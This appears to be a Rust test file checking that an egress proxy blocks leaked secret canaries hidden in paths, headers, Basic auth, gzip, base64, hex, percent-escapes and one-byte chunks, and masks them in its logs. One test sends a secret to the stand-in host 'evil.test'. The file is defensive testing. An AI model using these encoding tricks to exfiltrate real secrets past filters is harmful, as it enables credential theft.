//! Gauntlet DL: a canary never leaves, whatever it is wrapped in, and what is no canary passes.

use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use crate::support::pages::{hex, pattern, sha256};
use crate::support::*;

/// The canary in any form that a test sends it in.
fn holds(text: &str, canary: &str) -> bool {
    let forms = [
        canary.to_owned(),
        STANDARD.encode(canary),
        hex(canary.as_bytes()),
        hex(canary.as_bytes()).to_uppercase(),
    ];
    forms.iter().any(|form| text.contains(form.as_str()))
}

/// A 403 before anything went upstream: the canary stands in the head.
fn blocked_before_connect(bed: &Bed, request: &str, canary: &str) {
    let mark = bed.mark();
    let status = bed.fetch("api.good.test", request).map(|answer| answer.status);
    assert_eq!(status, Some(403), "{request}");
    let taps = bed.since(mark, 1);
    let record = taps.nothing_upstream().decided("deny", &["dlp", "secret_wrong_host"]);
    assert!(!record.mentions(canary), "the record tells the canary: {}", record.0);
}

/// A 403, and the upstream neither saw the canary nor a complete message: it stands in the body.
fn blocked_in_body(bed: &Bed, request: impl AsRef<[u8]>, canary: &str, what: &str) {
    let mark = bed.mark();
    let status = bed.fetch("api.good.test", request).map(|answer| answer.status);
    assert_eq!(status, Some(403), "{what}");
    let taps = bed.since(mark, 1);
    assert!(
        taps.requests.iter().all(|request| request.body.lock().unwrap().is_none()),
        "{what}: a complete message"
    );
    assert!(!holds(&taps.upstream_text(), canary), "{what}: {:?}", taps.upstream);
    let id = taps.decisions[0].text("id").to_owned();
    let says_why = |record: &Record| record.text("id") == id && record.mentions("dlp");
    bed.gate.wait_for_record(what, says_why);
    assert!(!bed.gate.records().iter().any(|record| record.mentions(canary)), "{what}: the record tells it");
}

#[test]
fn dl_01_a_canary_in_the_target_is_blocked_before_connect() {
    let bed = Bed::new(P1);
    let k1 = &*K1;
    for path in [format!("/?key={k1}"), format!("/?{k1}=value"), format!("/a/{k1}/b"), format!("/{k1}")] {
        blocked_before_connect(&bed, &get("api.good.test", &path), k1);
    }
    let like_it = "AKIA-is-a-prefix";
    let clean = bed.fetch("api.good.test", get("api.good.test", &format!("/?key={like_it}"))).unwrap();
    assert_eq!(clean.status, 200);
}

#[test]
fn dl_02_a_canary_in_a_header_is_blocked() {
    let bed = Bed::new(P1);
    for name in ["X-Custom", "Cookie", "User-Agent", "Referer"] {
        let with =
            |value: &str| format!("GET / HTTP/1.1\r\nHost: api.good.test\r\n{name}: a={value}\r\n\r\n");
        blocked_before_connect(&bed, &with(&K2), &K2);
        assert_eq!(bed.fetch("api.good.test", with("ghp_short")).unwrap().status, 200, "{name}");
    }
}

#[test]
fn dl_03_a_canary_as_a_basic_password_is_blocked() {
    let bed = Bed::new(P1);
    let with = |password: &str| {
        let basic = STANDARD.encode(format!("user:{password}"));
        format!("GET / HTTP/1.1\r\nHost: api.good.test\r\nAuthorization: Basic {basic}\r\n\r\n")
    };
    blocked_before_connect(&bed, &with(&K2), &K2);
    assert_eq!(bed.fetch("api.good.test", with("no canary")).unwrap().status, 200);
}

#[test]
fn dl_12_a_canary_in_a_gzip_body_is_blocked() {
    let bed = Bed::new(P1);
    let gzipped = |text: &str| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(text.as_bytes()).unwrap();
        let body = encoder.finish().unwrap();
        let head = format!(
            "POST /upload HTTP/1.1\r\nHost: api.good.test\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        [head.into_bytes(), body].concat()
    };
    blocked_in_body(&bed, gzipped(&format!("some text, then {} and more", *K2)), &K2, "gzip");
    assert_eq!(bed.fetch("api.good.test", gzipped("some text, and no canary")).unwrap().status, 200);
}

#[test]
fn dl_16_a_canary_in_base64_is_blocked_at_any_offset() {
    let bed = Bed::new(P1);
    for before in ["", "x", "xy", "a longer text: "] {
        for encoded in [
            STANDARD.encode(format!("{before}{}", *K2)),
            URL_SAFE_NO_PAD.encode(format!("{before}{} end", *K2)),
        ] {
            let alone = post("api.good.test", "/upload", "", &encoded);
            blocked_in_body(&bed, alone, &K2, &format!("base64 alone, after {before:?}"));
            let inside = post("api.good.test", "/upload", "", &format!("{{\"data\": \"{encoded}\"}}"));
            blocked_in_body(&bed, inside, &K2, &format!("base64 in text, after {before:?}"));
        }
    }
    let clean = post("api.good.test", "/upload", "", &STANDARD.encode(pattern(4000)));
    assert_eq!(bed.fetch("api.good.test", clean).unwrap().status, 200);
}

#[test]
fn dl_18_a_canary_in_hex_or_percent_escapes_is_blocked() {
    let bed = Bed::new(P1);
    let escaped: String = K2.bytes().map(|byte| format!("%{byte:02x}")).collect();
    for body in [hex(K2.as_bytes()), hex(K2.as_bytes()).to_uppercase(), format!("a=1&b={escaped}")] {
        blocked_in_body(&bed, post("api.good.test", "/upload", "", &body), &K2, &body);
    }
}

#[test]
fn dl_24_a_canary_in_chunks_of_one_byte_is_blocked() {
    let bed = Bed::new(P1);
    let chunked = |text: &str| {
        let head = "POST /upload HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n".to_owned();
        let chunks: String = text.chars().map(|letter| format!("1\r\n{letter}\r\n")).collect();
        format!("{head}{chunks}0\r\n\r\n")
    };
    let leak = chunked(&format!("before {} after", *K2));
    blocked_in_body(&bed, leak.replace("HOST", "api.good.test"), &K2, "chunks inside TLS");
    let mark = bed.mark();
    assert_eq!(bed.fetch_plain(leak.replace("HOST", "plain.good.test")).unwrap().status, 403);
    let taps = bed.since(mark, 1);
    let joined: String =
        taps.upstream_text().split("\r\n").filter(|line| !line.is_empty() && *line != "1").collect();
    assert!(!joined.contains(&*K2), "the chunks went upstream: {joined}");

    let clean = chunked("before and after").replace("HOST", "api.good.test");
    assert!(
        bed.fetch("api.good.test", clean).unwrap().text().starts_with("16 "),
        "a clean body arrives whole"
    );
}

#[test]
fn dl_26_a_canary_at_the_very_end_of_a_long_body_is_blocked() {
    let bed = Bed::new(P1);
    for (place, length) in [(1 << 20, 2 << 20), (2 << 20, 2 << 20), (1 << 20, 24 << 20)] {
        let mut body = vec![b'.'; length];
        body.splice(place - K2.len()..place, K2.bytes());
        let head =
            format!("POST /upload HTTP/1.1\r\nHost: api.good.test\r\nContent-Length: {}\r\n\r\n", body.len());
        blocked_in_body(&bed, [head.into_bytes(), body].concat(), &K2, &format!("at {place} of {length}"));
    }
}

#[test]
fn dl_28_what_is_too_long_to_inspect_does_not_pass() {
    let limited = r#"
[[rule]]
name = "limited"
hosts = ["api.good.test"]
action = "allow"
  [rule.dlp]
  max_body = "1 MiB"
"#;
    let bed = Bed::new(limited);
    let upload = |length: usize| {
        let mut body = vec![b'.'; length];
        body.splice(length - K2.len().min(length).., K2.bytes());
        format!("POST /upload HTTP/1.1\r\nHost: api.good.test\r\nContent-Length: {length}\r\n\r\n")
            .into_bytes()
            .into_iter()
            .chain(body)
            .collect::<Vec<u8>>()
    };
    let mark = bed.mark();
    assert_eq!(bed.fetch("api.good.test", upload(2 << 20)).map(|answer| answer.status), Some(413));
    let taps = bed.since(mark, 1);
    assert!(!taps.upstream_text().contains(&*K2));
    assert!(taps.requests.iter().all(|request| request.body.lock().unwrap().is_none()));
    bed.gate.wait_for_record("dlp_limit", |record| record.mentions("dlp_limit"));
    let clean = post("api.good.test", "/upload", "", &".".repeat(1 << 19));
    assert_eq!(bed.fetch("api.good.test", clean).unwrap().status, 200);
}

#[test]
fn dl_45_the_injected_secret_is_blocked_when_the_client_sends_it() {
    let bed = Bed::with(&Setup { policy: P4.into(), environment: p4_environment(), ..Setup::default() });
    for value in [K5.clone(), STANDARD.encode(&*K5)] {
        for host in ["api.good.test", "files.good.test"] {
            let request = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Other: {value}\r\n\r\n");
            let mark = bed.mark();
            assert_eq!(bed.fetch(host, request).map(|answer| answer.status), Some(403), "{host}");
            bed.since(mark, 1).nothing_upstream().decided("deny", &["dlp", "secret_wrong_host"]);
        }
    }
    bed.control();
}

#[test]
fn dl_49_a_rule_that_only_logs_lets_it_pass_and_says_so() {
    let logged = r#"
[[rule]]
name = "logged"
hosts = ["api.good.test"]
action = "allow"
  [rule.dlp]
  on_match = "log"
"#;
    let bed = Bed::new(logged);
    let body = format!("before {} {}", *K2, "after ".repeat(5000));
    let upload = post("api.good.test", "/upload", "", &body);
    assert_eq!(
        bed.fetch("api.good.test", upload).unwrap().text(),
        format!("{} {}\n", body.len(), sha256(body.as_bytes())),
        "a body arrives whole"
    );
    bed.gate.wait_for_record("the finding in the body", |record| record.is_end() && record.mentions("dlp"));
    let mark = bed.mark();
    assert_eq!(
        bed.fetch("api.good.test", get("api.good.test", &format!("/?key={}", *K2))).unwrap().status,
        200
    );
    bed.since(mark, 1).decided("allow", &[]);
    bed.gate.wait_for_record("the finding", |record| record.mentions("dlp"));
    assert!(!bed.gate.records().iter().any(|record| record.mentions(&K2)), "the value is masked");
}

#[test]
fn gi_02_the_record_of_a_denied_request_does_not_tell_what_stands_in_its_path() {
    let bed = Bed::new(P1);
    let path = format!("/upload/{}", *K2);
    let mark = bed.mark();
    assert_eq!(bed.fetch_plain(get("evil.test", &path)).unwrap().status, 403);
    let taps = bed.since(mark, 1);
    let record = taps.nothing_upstream().decided("deny", &["no_rule"]);
    assert!(!record.mentions(&K2), "{}", record.0);
    let mark = bed.mark();
    assert_eq!(bed.fetch_plain(get("evil.test", "/upload/it")).unwrap().status, 403);
    assert_eq!(
        bed.since(mark, 1).decided("deny", &["no_rule"]).text("path"),
        "/upload/it",
        "else it is told"
    );
}
